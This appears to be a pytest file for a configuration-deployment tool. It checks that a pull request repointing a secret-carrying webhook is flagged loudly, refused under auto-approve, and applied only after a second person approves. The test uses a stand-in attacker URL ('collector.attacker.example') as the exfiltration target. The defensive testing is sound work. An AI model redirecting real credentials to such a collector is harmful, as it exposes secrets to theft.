"""A plan that changes where a credential goes is loud and needs someone else's approval, everywhere."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from cxops.cli.main import main
from cxops.fake import FakeCX
from tests.stagerepo import (
    LEASE_WRITES,
    SECRET_VALUE,
    sample_stage,
)

PROJECT = "acme-bots-stg"
EVIL = "https://collector.attacker.example/cx"


@pytest.fixture
def repo(fake: FakeCX, clients: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    sample_stage(tmp_path, fake.address, clients, monkeypatch)
    assert cli(tmp_path, "apply", "stg", "--auto-approve") == 0
    return tmp_path


def cli(root: Path, *args: str) -> int:
    return main(["--root", str(root), "-q", *args])


def repoint(repo: Path) -> None:
    """What a pull request would do: the secret-carrying webhook now posts elsewhere."""
    stage = repo / "environments" / "stg.yaml"
    stage.write_text(
        stage.read_text() + f"overrides:\n  webhooks/orders-api:\n    generic_web_service.uri: {EVIL}\n"
    )


def test_repointing_a_secret_carrying_webhook_is_loud_in_every_renderer(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repoint(repo)
    capsys.readouterr()
    assert main(["--root", str(repo), "plan", "stg"]) == 0
    text = capsys.readouterr().out
    assert "!! SECURITY" in text.splitlines()[1]
    assert "webhook orders-api: generic_web_service.uri changed, and it sends orders-api/X-Api-Key" in text
    assert main(["--root", str(repo), "--format", "markdown", "plan", "stg"]) == 0
    markdown = capsys.readouterr().out
    assert markdown.startswith("> [!CAUTION]")
    plan = repo / "p.json"
    assert cli(repo, "plan", "stg", "-o", str(plan)) == 0
    assert json.loads(plan.read_text())["security"] == [
        "webhook orders-api: generic_web_service.uri changed, and it sends orders-api/X-Api-Key"
    ]
    assert SECRET_VALUE not in plan.read_text()


def test_auto_approve_refuses_it_and_another_persons_approval_lets_it_through(
    repo: Path, fake: FakeCX, capsys: pytest.CaptureFixture[str]
) -> None:
    repoint(repo)
    capsys.readouterr()
    fake.reset_calls()
    assert cli(repo, "apply", "stg", "--auto-approve") == 1
    err = capsys.readouterr().err
    assert "changes where a credential goes or comes from" in err and "--auto-approve is refused" in err
    assert len(err.strip().splitlines()) == 1
    assert fake.write_count() == 0
    # stg is unprotected, yet the plan file alone is not enough, nor its author's approval.
    plan = repo / "p.json"
    assert cli(repo, "plan", "stg", "-o", str(plan)) == 0
    assert cli(repo, "apply", str(plan)) == 1
    assert "needs an approval by someone other than dev-alice" in capsys.readouterr().err
    assert fake.write_count() == 0
    assert cli(repo, "approve", str(plan), "--reviewer", "dev-alice") == 1
    assert cli(repo, "approve", str(plan), "--reviewer", "sec-carol") == 0
    assert cli(repo, "apply", str(plan)) == 0
    assert fake.write_count() == 1 + LEASE_WRITES


def test_an_ordinary_change_on_an_unprotected_stage_still_needs_nobody(repo: Path) -> None:
    intent = repo / "agents/order-desk/intents/order.status.yaml"
    intent.write_text(intent.read_text(encoding="utf-8").replace("priority: 500000", "priority: 400000"))
    assert cli(repo, "apply", "stg", "--auto-approve") == 0


def test_a_new_header_holding_a_secret_is_marked(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    hook = repo / "agents/order-desk/webhooks/orders-api.yaml"
    text = hook.read_text(encoding="utf-8")
    assert "X-Api-Key: ${secret:orders-api/X-Api-Key}" in text
    hook.write_text(
        text.replace(
            "X-Api-Key: ${secret:orders-api/X-Api-Key}",
            "X-Api-Key: ${secret:orders-api/X-Api-Key}\n    X-Extra: ${secret:orders-api/X-Extra}",
        )
    )
    stage = repo / "environments" / "stg.yaml"
    stage.write_text(stage.read_text() + "  orders-api/X-Extra: env:CXOPS_EXTRA\n")
    capsys.readouterr()
    assert main(["--root", str(repo), "plan", "stg"]) == 0
    out = capsys.readouterr().out
    assert "webhook orders-api: new credential field generic_web_service.request_headers.X-Extra" in out
